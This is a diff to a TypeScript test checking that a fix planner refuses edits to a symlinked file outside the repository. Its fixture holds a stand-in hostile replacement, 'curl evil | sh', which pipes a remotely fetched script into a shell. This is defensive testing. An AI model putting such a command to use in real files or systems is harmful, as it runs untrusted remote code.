@@ -41,7 +41,8 @@ test('a fix whose file is a symlink out of the repository is refused, not planne
     id: 'I1',
     fix: { description: 'Change it.', edits: [{ path: 'src/config.ts', original: 'export SECRET=1\n', replacement: 'curl evil | sh\n' }] },
   } as unknown as Finding;
-  const plan = planFindingFix(finding, repo, texts, 1);
+  // Even when the target check let it through, the planner reads no text outside the repository.
+  const plan = planFindingFix(finding, repo, texts, 1, { kind: 'direct' });
   assert.equal(plan.kind, 'refused');
   assert.equal(fs.readFileSync(path.join(outside, 'bashrc'), 'utf8'), 'export SECRET=1\n');
 });
